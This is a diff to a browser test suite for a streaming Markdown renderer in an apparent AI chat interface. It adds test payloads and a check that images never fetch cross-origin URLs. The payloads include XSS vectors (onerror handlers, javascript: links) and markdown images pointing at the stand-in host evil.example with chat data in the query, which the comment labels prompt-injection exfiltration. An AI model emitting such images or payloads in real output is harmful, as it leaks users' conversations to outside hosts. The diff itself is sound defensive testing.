@@ -50,6 +50,11 @@ const xssPayloads = [
   '`<img src=x onerror=__xss()>`',
   '&lt;img src=x onerror=__xss()&gt;',
   '| a | <img src=x onerror=__xss()> |\n|---|---|\n| [x](javascript:__xss()) | ![y](javascript:__xss()) |',
+  // Prompt-injection exfiltration: an image that loads by itself sends the URL's data away.
+  '![leak](https://evil.example/collect?chat=secret)',
+  '![leak](//evil.example/collect?chat=secret)',
+  '![leak](/\\evil.example/collect?chat=secret)',
+  '![leak][img]\n\n[img]: https://evil.example/collect?chat=secret',
 ].join('\n\n');
 
 /** Everything in #root that could run script or navigate somewhere dangerous. */
@@ -66,6 +71,8 @@ function auditDom(): string[] {
         const protocol = new URL(attr.value, location.href).protocol;
         if (!['http:', 'https:', 'mailto:'].includes(protocol)) problems.push(`${attr.name}="${attr.value}" on <${tag}>`);
       }
+      // Images load by themselves: only the page's own origin (the default image policy).
+      if (tag === 'img' && attr.name === 'src' && new URL(attr.value, location.href).origin !== location.origin) problems.push(`cross-origin <img src="${attr.value}">`);
     }
   }
   return problems;
@@ -148,6 +155,23 @@ describe('StreamingMarkdown in Chromium: XSS payloads render inert', () => {
     await page.close();
   });
 
+  it('requests no cross-origin image (however the URL is written) and keeps same-origin ones', async () => {
+    const page = await freshPage();
+    const requested: string[] = [];
+    page.on('request', (request) => requested.push(request.url()));
+    await page.route('**/evil.example/**', (route) => route.fulfill({ status: 204 }));
+    const markdown = '![ours](/pixel.png) ![a](https://evil.example/a?d=1) ![b](//evil.example/b) ![c](/\\evil.example/c) ![d](HTTPS://EVIL.example/d) ![e](https:evil.example/e)';
+    await page.evaluate((md) => window.__ask.renderMarkdown(md), markdown);
+    await page.waitForTimeout(300);
+    expect(requested.filter((url) => url.includes('evil.example'))).toEqual([]);
+    const origin = new URL(server.url).origin;
+    expect(await page.$$eval('#root img', (imgs) => imgs.map((img) => (img as HTMLImageElement).src))).toEqual([`${origin}/pixel.png`]);
+    const links = await page.$$eval('#root a.ask-md-image-link', (as) => as.map((a) => (a as HTMLAnchorElement).href));
+    expect(links).toHaveLength(5);
+    expect(links.every((href) => new URL(href).hostname === 'evil.example')).toBe(true);
+    await page.close();
+  });
+
   it('keeps safe links working, with target=_blank and rel=noopener noreferrer', async () => {
     const page = await freshPage();
     await page.evaluate(() => window.__ask.renderMarkdown('[docs](https://example.com/docs) [rel](/about) <https://example.org> me@example.com'));
@@ -178,9 +202,9 @@ describe('StreamingMarkdown in Chromium: streaming', () => {
     const last = samples.at(-1)!;
     expect(last.streaming).toBe(false);
     expect(last.textLength).toBeGreaterThan(lengths.at(-1)! * 0.9);
-    // The finished reply has every construct.
+    // The finished reply has every construct (its cross-origin image as a link: the default image policy).
     const counts = await page.evaluate(() =>
-      ['h1', 'h2', 'table', 'blockquote', 'ol', 'ul', 'pre', 'img', 'hr', 'del', 'input[type=checkbox]'].map((s) => document.querySelectorAll(`#root ${s}`).length),
+      ['h1', 'h2', 'table', 'blockquote', 'ol', 'ul', 'pre', 'img, a.ask-md-image-link', 'hr', 'del', 'input[type=checkbox]'].map((s) => document.querySelectorAll(`#root ${s}`).length),
     );
     expect(counts.every((n) => n > 0)).toBe(true);
     await page.close();
